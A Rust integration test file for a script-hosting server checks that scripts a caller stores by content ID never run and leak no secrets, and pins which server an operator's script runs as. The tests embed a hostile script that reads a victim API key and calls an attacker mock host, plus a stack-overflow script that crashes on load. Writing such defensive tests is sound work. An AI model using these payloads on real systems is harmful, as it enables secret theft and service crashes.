//! Invoking by CID: only a script an operator bound to a server runs, and it runs as that server.
//!
//! A caller can put any bytes in the store (a stored output, a webhook body), so a CID alone proves
//! nothing about who wrote the script it names. These tests store hostile scripts the way a caller can
//! and check that they never run, then pin which server an operator's script runs as.

mod common;

use common::{Server, expect_error, json, script};

const ADMIN: &str = "adm-41b7c9e2d0f3";
const VICTIM_KEY: &str = "sk_live_victim_51Hx9q";

/// Returns its data as text: what a caller stores with `X-Store-Output: 1` is then exactly its body.
const TEXT_ECHO: &str = r#"const META = #{ title: "Text echo", description: "d" };
fn main(endpoint, method, data) { if type_of(data) == "string" { data } else { json::stringify(data) } }"#;

async fn put_script(server: &Server, name: &str, source: &str) -> reqwest::Response {
    let url = server.url(&format!("/api/servers/{name}"));
    server.client.put(url).bearer_auth(ADMIN).body(source.to_owned()).send().await.unwrap()
}

async fn admin_post(server: &Server, path: &str) -> reqwest::Response {
    server.client.post(server.url(path)).bearer_auth(ADMIN).send().await.unwrap()
}

/// Stores `body` as a blob the way any caller can, through an output of `textecho`; returns its CID.
async fn store_as_caller(server: &Server, body: &str) -> String {
    let response = server
        .client
        .post(server.url("/textecho/x"))
        .header("x-store-output", "1")
        .header("content-type", "text/plain")
        .body(body.to_owned())
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
    let cid = response.headers()["x-output-cid"].to_str().unwrap().to_owned();
    assert_eq!(cid, switchboard::cid::Cid::of(body.as_bytes()).to_string());
    cid
}

#[tokio::test]
async fn a_script_a_caller_stored_never_runs_and_reads_no_secret() {
    let attacker = common::ok_upstream().await;
    let env = [("SWITCHBOARD_ADMIN_TOKEN", ADMIN), ("VICTIM_API_KEY", VICTIM_KEY)];
    let server = Server::start_with(&[("textecho", TEXT_ECHO)], &[], &env);
    let stealer = format!(
        r#"const META = #{{ title: "x", description: "x", secrets: ["VICTIM_API_KEY"], auth: "bearer",
    base_url: "{}" }};
fn main(endpoint, method, data) {{ let r = api::call(global::META, "/collect", "POST", #{{}}); secret::get("VICTIM_API_KEY") }}"#,
        attacker.uri()
    );
    // Overflows its stack at load: compiling it would cost the process the frames it abandons.
    let overflow = "let f = || 1; for i in 0..400000 { let g = f; f = || g; }\nfn main(e, m, d) { 1 }";
    for hostile in [stealer.as_str(), overflow] {
        let cid = store_as_caller(&server, hostile).await;
        for path in [format!("/{cid}/go"), format!("/{cid}?endpoint=/go"), format!("/{cid}")] {
            let response = server.get(&path).await;
            assert!(response.headers().get("x-server-cid").is_none(), "{path}");
            let error = expect_error(response, 404, "not_found").await;
            assert!(error["message"].as_str().unwrap().contains("bound"), "{path}: {error}");
            assert!(!error.to_string().contains(VICTIM_KEY));
        }
        let posted = server.client.post(server.url(&format!("/{cid}"))).json(&serde_json::json!({})).send().await;
        expect_error(posted.unwrap(), 404, "not_found").await;
        // The blob itself is still there to read: it is data.
        assert_eq!(server.get(&format!("/cid/{cid}")).await.text().await.unwrap(), hostile);
    }
    assert_eq!(attacker.received_requests().await.unwrap().len(), 0);
    assert!(!server.logs().contains(VICTIM_KEY));
    // Nothing was compiled, so nothing overflowed: the process serves on.
    assert_eq!(server.get("/echo/still").await.status(), 200);
}

#[tokio::test]
async fn an_earlier_version_runs_by_cid_as_the_server_that_bound_it() {
    let env = [("SWITCHBOARD_ADMIN_TOKEN", ADMIN), ("SVC_KEY", "svc-key-1234")];
    let server = Server::start_with(&[], &[], &env);
    let version = |n: u32| {
        format!(
            r#"const META = #{{ title: "Svc", description: "d", secrets: ["SVC_KEY"] }};
fn main(endpoint, method, data) {{
    db::execute("CREATE TABLE IF NOT EXISTS calls (v INTEGER)");
    db::execute("INSERT INTO calls VALUES (?)", [{n}]);
    #{{ version: {n}, key: secret::get("SVC_KEY"), calls: db::query("SELECT count(*) AS n FROM calls")[0].n }}
}}"#
        )
    };
    let first = put_script(&server, "svc", &version(1)).await;
    let first: serde_json::Value = first.json().await.unwrap();
    let first = first["cid"].as_str().unwrap().to_owned();
    assert!(put_script(&server, "svc", &version(2)).await.status().is_success());

    let (status, body) = json(server.get("/svc/").await).await;
    assert_eq!((status, body["version"].clone(), body["calls"].clone()), (200, 2.into(), 1.into()));
    // Version 1 by its CID: the server's secret and the server's own database.
    let response = server.get(&format!("/{first}/")).await;
    assert_eq!(response.headers()["x-server-cid"], first.as_str());
    let (status, body) = json(response).await;
    assert_eq!(status, 200, "{body}");
    assert_eq!((body["version"].clone(), body["key"].clone()), (1.into(), "svc-key-1234".into()));
    assert_eq!(body["calls"], 2, "runs on svc's database");

    // Disabled, its versions do not run by CID either; enabled again, they do.
    assert_eq!(admin_post(&server, "/api/servers/svc/disable").await.status(), 200);
    expect_error(server.get(&format!("/{first}/")).await, 404, "not_found").await;
    assert_eq!(admin_post(&server, "/api/servers/svc/enable").await.status(), 200);
    assert_eq!(server.get(&format!("/{first}/")).await.status(), 200);
    // Removed, neither.
    let removed = server.client.delete(server.url("/api/servers/svc")).bearer_auth(ADMIN).send().await.unwrap();
    assert_eq!(removed.status(), 204);
    expect_error(server.get(&format!("/{first}/")).await, 404, "not_found").await;
}

#[tokio::test]
async fn a_cid_in_several_histories_runs_as_the_server_the_operator_bound_it_to_last() {
    let server = Server::start_with(&[], &[], &[("SWITCHBOARD_ADMIN_TOKEN", ADMIN)]);
    // Fails on purpose: the error names the server it ran as.
    let shared = script("Shared", "throw \"which server?\"");
    let cid = switchboard::cid::Cid::of(shared.as_bytes()).to_string();
    let ran_as = || async {
        let error = expect_error(server.get(&format!("/{cid}/")).await, 500, "script_error").await;
        error["server"].as_str().unwrap().to_owned()
    };
    for name in ["alpha", "beta"] {
        assert!(put_script(&server, name, &shared).await.status().is_success());
    }
    assert_eq!(ran_as().await, "beta", "both bound to it now: the later binding");
    assert!(put_script(&server, "beta", &script("Beta", "2")).await.status().is_success());
    assert_eq!(ran_as().await, "alpha", "the server bound to it now, over an earlier binding");
    assert!(put_script(&server, "alpha", &script("Alpha", "1")).await.status().is_success());
    assert_eq!(ran_as().await, "beta", "bound to neither now: the later of their bindings of it");
    let rollback = server
        .client
        .post(server.url("/api/servers/alpha/rollback"))
        .bearer_auth(ADMIN)
        .json(&serde_json::json!({ "cid": cid }))
        .send()
        .await
        .unwrap();
    assert_eq!(rollback.status(), 200);
    assert_eq!(ran_as().await, "alpha", "a rollback is a binding");
}

#[tokio::test]
async fn the_readme_example_of_invoking_by_cid_runs_as_written() {
    let server = Server::start(&[]);
    let response = server.get("/echo/").await;
    let cid = response.headers()["x-server-cid"].to_str().unwrap().to_owned();
    let (_, body) = json(server.get(&format!("/{cid}/pinned/path")).await).await;
    assert_eq!(body["endpoint"], "/pinned/path");
    let stored = server.get("/echo?data=%7B%22n%22%3A1%7D&store=1").await;
    let stored = stored.headers()["x-output-cid"].to_str().unwrap().to_owned();
    expect_error(server.get(&format!("/{stored}/run")).await, 404, "not_found").await;
}
